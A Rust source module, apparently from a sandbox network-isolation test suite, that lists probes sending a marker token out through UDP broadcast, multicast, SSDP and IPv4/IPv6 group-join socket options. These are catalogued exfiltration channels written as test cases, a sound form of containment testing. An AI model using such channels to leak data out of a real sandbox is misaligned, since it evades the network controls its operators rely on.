//! Broadcast, groups, and joining a group, whose address carries data by itself.

use std::{
    mem::size_of,
    net::{Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6},
};

use super::{Attack, token, wire};
use crate::attack::{
    aim::{AGENT4, Aim, WIRE},
    call::{Done, Name, Sock, settle},
};

const IP: i32 = libc::IPPROTO_IP;
const IP6: i32 = libc::IPPROTO_IPV6;
const MCAST_JOIN_GROUP: i32 = 42;
const MCAST_JOIN_SOURCE_GROUP: i32 = 46;

fn broadcast(address: Ipv4Addr, aim: &Aim<'_>) -> Done {
    let socket = Sock::udp4()?;
    socket.number("SO_BROADCAST", libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
    // Without a route of its own the kernel asks for a device.
    socket.send_to(SocketAddr::from((address, aim.port())), &aim.token())
}

fn group4(address: Ipv4Addr, port: u16, aim: &Aim<'_>) -> Done {
    Sock::udp4()?.send_to(SocketAddr::from((address, port)), &aim.token())
}

fn group6(last: u16, port: u16, aim: &Aim<'_>) -> Done {
    let group = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, last);
    Sock::udp6()?.send_to(Name::of(SocketAddrV6::new(group, port, 0, WIRE).into()), &aim.token())
}

/// Stays a member while the kernel tells the link.
fn joined(done: Done) -> Done {
    done?;
    settle(1_200)
}

/// A group request: device, padding, and one or two addresses as large as any.
fn request(addresses: &[SocketAddr]) -> Vec<u8> {
    let mut bytes = WIRE.to_ne_bytes().to_vec();
    bytes.extend([0; 4]);
    for address in addresses {
        let start = bytes.len();
        bytes.extend(Name::of(*address).0);
        bytes.resize(start + size_of::<libc::sockaddr_storage>(), 0);
    }
    bytes
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("l-broadcast-link", "UDP to the link's broadcast address", |aim| {
        broadcast(Ipv4Addr::new(192, 0, 2, 255), aim)
    }),
    wire("l-broadcast-all", "UDP to 255.255.255.255", |aim| broadcast(Ipv4Addr::BROADCAST, aim)),
    wire("l-group4", "UDP to a group, IPv4", |aim| group4(aim.group4(), 443, aim)),
    token("l-group6", "UDP to a group, IPv6", |aim| group6(1, aim.port(), aim)),
    wire("l-group-peer", "UDP to a group as a peer", |aim| {
        let socket = Sock::udp4()?;
        socket.connect(SocketAddr::from((aim.group4(), 443)))?;
        socket.send(&aim.token())
    }),
    wire("l-group-mapped", "UDP to a group in mapped form", |aim| {
        Sock::udp6()?.send_to(SocketAddr::from((aim.group4().to_ipv6_mapped(), 443)), &aim.token())
    }),
    token("l-discovery", "service discovery (SSDP)", |aim| {
        group4(Ipv4Addr::new(239, 255, 255, 250), 1900, aim)
    }),
    wire("l-join4", "joining a group, IP_ADD_MEMBERSHIP", |aim| {
        let request = [aim.group4().octets(), AGENT4.octets()].concat();
        let socket = Sock::udp4()?;
        joined(socket.option("IP_ADD_MEMBERSHIP", IP, libc::IP_ADD_MEMBERSHIP, &request))
    }),
    wire("l-join4-source", "joining a group for one source, IP_ADD_SOURCE_MEMBERSHIP", |aim| {
        let request = [aim.group4().octets(), AGENT4.octets(), [203, 0, 113, 9]].concat();
        let socket = Sock::udp4()?;
        joined(socket.option("IP_ADD_SOURCE_MEMBERSHIP", IP, libc::IP_ADD_SOURCE_MEMBERSHIP, &request))
    }),
    wire("l-join4-group", "joining a group, MCAST_JOIN_GROUP", |aim| {
        let request = request(&[(aim.group4(), 0).into()]);
        let socket = Sock::udp4()?;
        joined(socket.option("MCAST_JOIN_GROUP", IP, MCAST_JOIN_GROUP, &request))
    }),
    wire("l-join4-group-source", "joining a group for one source, MCAST_JOIN_SOURCE_GROUP", |aim| {
        let source = (Ipv4Addr::new(203, 0, 113, 9), 0).into();
        let request = request(&[(aim.group4(), 0).into(), source]);
        let socket = Sock::udp4()?;
        joined(socket.option("MCAST_JOIN_SOURCE_GROUP", IP, MCAST_JOIN_SOURCE_GROUP, &request))
    }),
    wire("l-join4-tcp", "joining a group with a TCP socket", |aim| {
        let request = [aim.group4().octets(), AGENT4.octets()].concat();
        let socket = Sock::tcp4()?;
        joined(socket.option("IP_ADD_MEMBERSHIP", IP, libc::IP_ADD_MEMBERSHIP, &request))
    }),
    wire("l-join6", "joining a group, IPV6_JOIN_GROUP", |aim| {
        let mut request = aim.group6().octets().to_vec();
        request.extend(WIRE.to_ne_bytes());
        let socket = Sock::udp6()?;
        joined(socket.option("IPV6_JOIN_GROUP", IP6, libc::IPV6_ADD_MEMBERSHIP, &request))
    }),
    wire("l-join6-group", "joining an IPv6 group, MCAST_JOIN_GROUP", |aim| {
        let request = request(&[(aim.group6(), 0).into()]);
        let socket = Sock::udp6()?;
        joined(socket.option("MCAST_JOIN_GROUP", IP6, MCAST_JOIN_GROUP, &request))
    }),
    wire("l-join6-source", "joining an IPv6 group for one source", |aim| {
        let source = (Ipv6Addr::new(0x2001, 0xdb8, 9, 0, 0, 0, 0, 9), 0).into();
        let request = request(&[(aim.group6(), 0).into(), source]);
        let socket = Sock::udp6()?;
        joined(socket.option("MCAST_JOIN_SOURCE_GROUP", IP6, MCAST_JOIN_SOURCE_GROUP, &request))
    }),
    wire("l-join4-mapped", "joining an IPv4 group with an IPv6 socket", |aim| {
        let request = [aim.group4().octets(), AGENT4.octets()].concat();
        let socket = Sock::udp6()?;
        joined(socket.option("IP_ADD_MEMBERSHIP", IP, libc::IP_ADD_MEMBERSHIP, &request))
    }),
];
